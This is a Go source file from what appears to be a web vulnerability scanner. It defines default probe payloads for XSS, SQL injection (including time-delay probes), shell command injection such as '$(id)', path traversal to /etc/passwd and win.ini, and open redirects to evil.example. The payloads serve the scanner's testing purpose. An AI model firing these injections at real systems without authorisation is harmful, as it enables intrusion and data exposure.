// Package payloadsets supplies the small built-in model.PayloadSet values
// the CLI loads when no --payloads file is given. spec.md §1 names
// payload-source fetchers (PayloadBox) as an external collaborator outside
// this repo's scope; this package is the minimal stand-in every other
// CLI-driven DAST tool in the pack ships as its "works out of the box"
// default, grounded on the teacher's internal/scanner/sqli.go error-string
// table and on sqleech's own built-in technique list.
package payloadsets

import "github.com/vulcn-dast/vulcn/internal/model"

// Default returns the built-in payload sets: one each for xss, sqli,
// command-injection, path-traversal and open-redirect. The detect package
// ships detectors for the xss and sqli categories only. Custom sets loaded
// from --payloads files are appended to, not replacing, these.
func Default() []model.PayloadSet {
	return []model.PayloadSet{
		{
			Name:        "builtin-xss",
			Category:    model.CategoryXSS,
			Description: "Reflected XSS probes requiring a dangerous-character gate",
			Source:      model.SourceCustom,
			Payloads: []string{
				`<script>alert(1)</script>`,
				`"><img src=x onerror=alert(1)>`,
				`'><svg onload=alert(1)>`,
				`<img src=x onerror=alert('xss')>`,
				`javascript:alert(1)`,
			},
		},
		{
			Name:        "builtin-sqli",
			Category:    model.CategorySQLi,
			Description: "Error- and time-based SQLi probes",
			Source:      model.SourceCustom,
			Payloads: []string{
				`'`,
				`' OR '1'='1`,
				`' OR SLEEP(5)-- -`,
				`'; WAITFOR DELAY '0:0:5'--`,
				`' AND 1=CONVERT(int, (SELECT @@version))--`,
			},
		},
		{
			Name:        "builtin-command-injection",
			Category:    model.CategoryCommandInjection,
			Description: "Shell metacharacter probes",
			Source:      model.SourceCustom,
			Payloads: []string{
				`; id`,
				"| id",
				"`id`",
				"$(id)",
			},
		},
		{
			Name:        "builtin-path-traversal",
			Category:    model.CategoryPathTraversal,
			Description: "Relative path-traversal probes",
			Source:      model.SourceCustom,
			Payloads: []string{
				`../../../../etc/passwd`,
				`..\..\..\..\windows\win.ini`,
				`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
			},
		},
		{
			Name:        "builtin-open-redirect",
			Category:    model.CategoryOpenRedirect,
			Description: "External-redirect probes",
			Source:      model.SourceCustom,
			Payloads: []string{
				`https://evil.example`,
				`//evil.example`,
				`/\evil.example`,
			},
		},
	}
}
